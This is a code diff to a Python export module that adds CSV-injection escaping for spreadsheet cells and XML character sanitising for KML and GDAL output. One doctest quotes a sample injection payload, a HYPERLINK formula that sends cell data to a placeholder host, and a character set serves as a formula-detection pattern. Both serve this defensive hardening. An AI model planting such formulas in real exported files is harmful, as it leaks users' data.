@@ -126,47 +126,86 @@ def to_acled_csv(layers: Layers) -> str:
     """Return the events as CSV with ACLED's column names plus newsmap's evidence columns.
 
     Unknown fatalities stay empty (never 0); text is quoted by the csv module, so commas,
-    quotes and newlines inside a sentence survive a round trip.
+    quotes and newlines inside a sentence survive a round trip.  A text cell that a
+    spreadsheet would run as a formula (it starts with ``= + - @``, a tab or a carriage
+    return, after any spaces) gets a leading apostrophe, as OWASP's CSV-injection
+    guidance says; the numbers newsmap writes itself (coordinates, counts) are left as
+    they are.
     """
     buffer = io.StringIO()
     writer = csv.writer(buffer, lineterminator="\r\n")
     writer.writerow(ACLED_COLUMNS)
     countries = _country_names()
     for row in records(layers.events):
+        cells = [
+            row["id"],
+            row["event_date"],
+            str(row["event_date"])[:4],
+            row["time_precision"],
+            _DISORDER.get(str(row["event_type"]), ""),
+            row["event_type"],
+            row["sub_event_type"],
+            row["actor1"],
+            row["actor2"],
+            countries.get(str(row["country"]), row["country"]),
+            "",
+            row["location"],
+            f"{row['lat']:.{DECIMALS}f}",
+            f"{row['lon']:.{DECIMALS}f}",
+            row["geo_precision"],
+            row["source"],
+            row["notes"],
+            "" if row["fatalities"] is None else row["fatalities"],
+            row["end_date"] or "",
+            row["claimed_by"],
+            row["evidence"],
+            row["evidence_start"],
+            row["evidence_end"],
+            row["article"],
+            row["title"],
+            row["related"],
+        ]
         writer.writerow(
             [
-                row["id"],
-                row["event_date"],
-                str(row["event_date"])[:4],
-                row["time_precision"],
-                _DISORDER.get(str(row["event_type"]), ""),
-                row["event_type"],
-                row["sub_event_type"],
-                row["actor1"],
-                row["actor2"],
-                countries.get(str(row["country"]), row["country"]),
-                "",
-                row["location"],
-                f"{row['lat']:.{DECIMALS}f}",
-                f"{row['lon']:.{DECIMALS}f}",
-                row["geo_precision"],
-                row["source"],
-                row["notes"],
-                "" if row["fatalities"] is None else row["fatalities"],
-                row["end_date"] or "",
-                row["claimed_by"],
-                row["evidence"],
-                row["evidence_start"],
-                row["evidence_end"],
-                row["article"],
-                row["title"],
-                row["related"],
+                cell if index in _CSV_NUMBERS else spreadsheet_safe(cell)
+                for index, cell in enumerate(cells)
             ]
         )
     return buffer.getvalue()
 
 
 to_csv = to_acled_csv
+
+#: Cells newsmap formats as numbers itself: never text from an article.
+_CSV_NUMBERS = frozenset(
+    ACLED_COLUMNS.index(name)
+    for name in (
+        "year",
+        "time_precision",
+        "latitude",
+        "longitude",
+        "geo_precision",
+        "fatalities",
+        "evidence_start",
+        "evidence_end",
+    )
+)
+#: What starts a formula in Excel, LibreOffice and Google Sheets (OWASP's list, with the
+#: full-width forms some spreadsheets also take).
+_FORMULA_START = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
+
+
+def spreadsheet_safe(value: object) -> object:
+    """Return a CSV cell that a spreadsheet shows as text, never runs as a formula.
+
+    >>> print(spreadsheet_safe('=HYPERLINK("http://x/?"&A1)'), spreadsheet_safe("Aleppo"))
+    '=HYPERLINK("http://x/?"&A1) Aleppo
+    >>> spreadsheet_safe("  -2 killed"), spreadsheet_safe(3)
+    ("'  -2 killed", 3)
+    """
+    if isinstance(value, str) and value.lstrip(" ")[:1] in _FORMULA_START:
+        return "'" + value
+    return value
 
 
 def write_csv(layers: Layers, path: str | Path) -> Path:
@@ -233,9 +272,9 @@ def kml_bytes(layers: Layers) -> bytes:
             # KML readers take the Placemark id as the feature id: unique across layers.
             placemark = ET.Element("Placemark", id=_xml_id(f"{LAYER_OF[name]}.{row['id']}"))
             label = row.get("title") or row.get("name") or row["id"]
-            ET.SubElement(placemark, "name").text = str(label)
+            ET.SubElement(placemark, "name").text = xml_safe(str(label))
             if row.get("notes"):
-                ET.SubElement(placemark, "description").text = str(row["notes"])
+                ET.SubElement(placemark, "description").text = xml_safe(str(row["notes"]))
             extended = ET.SubElement(placemark, "ExtendedData")
             data = ET.SubElement(extended, "SchemaData", schemaUrl=f"#{name}")
             for column, value in row.items():
@@ -395,11 +434,15 @@ def _plain(value: Any) -> Any:
 
 
 def _for_gdal(frame: gpd.GeoDataFrame) -> gpd.GeoDataFrame:
-    """Return a copy GDAL can store: text columns that are all empty stay text."""
+    """Return a copy GDAL can store: text columns that are all empty stay text.
+
+    Text loses the characters ``xml_safe`` replaces: GDAL would cut a value at a NUL.
+    """
     out = frame.copy()
     for column in _columns(out):
-        if out[column].dtype == object:
-            out[column] = out[column].astype("string")
+        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column].dtype):
+            text = out[column].astype("string")
+            out[column] = text.map(xml_safe, na_action="ignore").astype("string")
     return out
 
 
@@ -417,7 +460,25 @@ def _xml_id(text: str) -> str:
 def _kml_text(value: Any) -> str:
     if isinstance(value, float) and value.is_integer():
         return str(int(value)) if abs(value) < 1e15 else str(value)
-    return str(value)
+    return xml_safe(str(value))
+
+
+#: Characters XML 1.0 forbids (and GDAL cuts text at, for NUL): C0 controls other than tab,
+#: newline and carriage return become a space (a form feed from a PDF is a break between
+#: words); non-characters U+FFFE/U+FFFF and lone surrogates become U+FFFD.
+_XML_FORBIDDEN = {
+    **{code: " " for code in range(0x20) if code not in (0x09, 0x0A, 0x0D)},
+    **{code: "\ufffd" for code in (*range(0xD800, 0xE000), 0xFFFE, 0xFFFF)},
+}
+
+
+def xml_safe(text: str) -> str:
+    r"""Return ``text`` with the characters XML 1.0 forbids replaced (same length).
+
+    >>> xml_safe("page one\fpage two\x00"), xml_safe("\ufffe")
+    ('page one page two ', '\ufffd')
+    """
+    return text.translate(_XML_FORBIDDEN)
 
 
 def _kml_geometry(geometry: BaseGeometry) -> ET.Element:
